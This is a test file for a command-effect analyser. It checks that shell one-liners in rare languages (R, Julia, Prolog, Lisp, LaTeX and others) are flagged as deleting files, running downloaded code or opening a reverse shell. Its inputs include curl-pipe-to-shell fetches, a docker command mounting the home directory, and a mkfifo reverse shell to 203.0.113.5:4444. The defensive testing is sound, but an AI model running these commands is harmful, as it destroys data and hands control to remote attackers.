import { describe, expect, it } from 'vitest';
import { effectsOf } from './reading.js';

const all = (line: string): string => effectsOf(line).join('; ');

describe('languages that are seldom met', () => {
  it.each([
    [
      `Rscript -e 'for (f in list.files("/opt/x", full.names=TRUE)) unlink(f, recursive=TRUE)'`,
      'delete /opt/x/',
    ],
    [`Rscript -e 'lapply(list.files("/opt/x", full.names=TRUE), unlink)'`, 'delete /opt/x/'],
    [`Rscript -e 'file.remove(list.files("/opt/x"))'`, 'delete /opt/x/'],
    [`Rscript -e 'setwd("/opt"); unlink("x", recursive=TRUE)'`, 'delete /opt/x'],
    [`Rscript -e 'file.copy("a","/opt/x")'`, 'overwrite /opt/x'],
    [`Rscript -e 'download.file("https://x.example/i","i.sh"); system("sh i.sh")'`, 'remote-code'],
    [`julia -e 'for f in readdir("/opt/x", join=true); rm(f, recursive=true); end'`, 'delete /opt/x/'],
    [`julia -e 'foreach(rm, readdir("/opt/x"; join=true))'`, 'delete /opt/x/'],
    [`julia -e 'foreach(f -> rm(f; recursive=true), readdir("/opt/x"; join=true))'`, 'delete /opt/x/'],
    [`julia -e 'rm.(readdir("/opt/x", join=true))'`, 'delete /opt/x/'],
    [`julia -e 'for (r,ds,fs) in walkdir("/opt/x"), f in fs; rm(joinpath(r,f)); end'`, 'delete /opt/x/'],
    [`julia -e 'cd("/opt"); rm("x")'`, 'delete /opt/x'],
    [`julia -e 'ccall(:system, Cint, (Cstring,), "rm /opt/x")'`, 'delete /opt/x'],
    [`nim e --eval:'import os; removeDir("/opt/x")'`, 'delete /opt/x'],
    [`swipl -g "shell('rm /opt/x')" -t halt`, 'delete /opt/x'],
    [`swipl -g 'process_create(path(rm),["/opt/x"],[])' -t halt`, 'delete /opt/x'],
    [`gprolog --query-goal "system('rm /opt/x')"`, 'delete /opt/x'],
    [`clisp -x '(ext:shell "rm /opt/x")'`, 'delete /opt/x'],
    [`sbcl --eval '(uiop:delete-directory-tree #p"/opt/x/" :validate t)'`, 'delete /opt/x'],
    [`matlab -batch "rmdir('/opt/x','s')"`, 'delete /opt/x'],
    [`maxima --batch-string='system("rm /opt/x");'`, 'delete /opt/x'],
    [`ghc -e ':!rm /opt/x'`, 'delete /opt/x'],
    [`rust-script -e 'std::fs::remove_dir_all("/opt/x").unwrap()'`, 'delete /opt/x'],
    [
      `printf 'fn main(){std::fs::remove_file("/opt/x").unwrap();}' > /tmp/a.rs && cargo -Zscript /tmp/a.rs`,
      'delete /opt/x',
    ],
    [
      `echo 'main(){Directory("/opt/x").deleteSync(recursive:true);}' > /tmp/a.dart && dart /tmp/a.dart`,
      'delete /opt/x',
    ],
    [`gnuplot -e 'set output "/opt/x"; plot x'`, 'overwrite /opt/x'],
    [`echo '.sy rm /opt/x' | groff -U`, 'delete /opt/x'],
    [`lualatex '\\directlua{os.execute("rm /opt/x")}'`, 'delete /opt/x'],
  ])('do what they say: %s', (line, effect) => {
    expect(all(line)).toContain(effect);
  });

  it.each([
    [`Rscript -e 'for (f in list.files("/opt/x", full.names=TRUE)) print(f)'`],
    [`julia -e 'for f in readdir("/opt/x"); println(f); end'`],
    [`nim e --eval:'echo "rm /opt/x"'`],
    [`swipl -g "writeln('rm /opt/x')" -t halt`],
    [`dart test`],
    [`groff -man -Tascii x.1`],
  ])('do nothing else: %s', (line) => {
    expect(effectsOf(line)).toEqual([]);
  });
});

describe('what is fetched and built, or run in a container', () => {
  it.each([
    ['curl -sL https://x.example/a.tgz | tar xz && cd a && make'],
    ['curl -so a.zip https://x.example/a.zip && unzip a.zip && make -C a'],
    [`docker run --rm -v $HOME:/x alpine sh -c 'wget -qO- https://x.example/i | sh'`],
  ])('is foreign code: %s', (line) => {
    expect(all(line)).toContain('remote-code');
  });

  it.each([
    ['curl -sL https://x.example/a.tgz | tar xz -C vendor && make'],
    ['git clone https://x.example/a.git && make -C a'],
    [`docker run --rm -v $PWD:/x alpine sh -c 'wget -qO- https://x.example/i | sh'`],
  ])('is not: %s', (line) => {
    expect(all(line)).not.toContain('remote-code');
  });

  it('finds the home that is mounted as that of the container', () => {
    expect(all(`docker run -v /opt:/root alpine sh -c 'rm -rf ~/x'`)).toContain('delete /opt/x');
  });

  it('knows a session that curl keeps open', () => {
    expect(all('mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | curl -s telnet://203.0.113.5:4444 > /tmp/p')).toContain(
      'reverse-shell',
    );
    expect(effectsOf('curl telnet://localhost:6379')).toEqual([]);
  });

  it('runs what a debugger pipes into', () => {
    expect(all(`gdb -batch -ex 'pipe info | rm /opt/x'`)).toContain('delete /opt/x');
  });
});
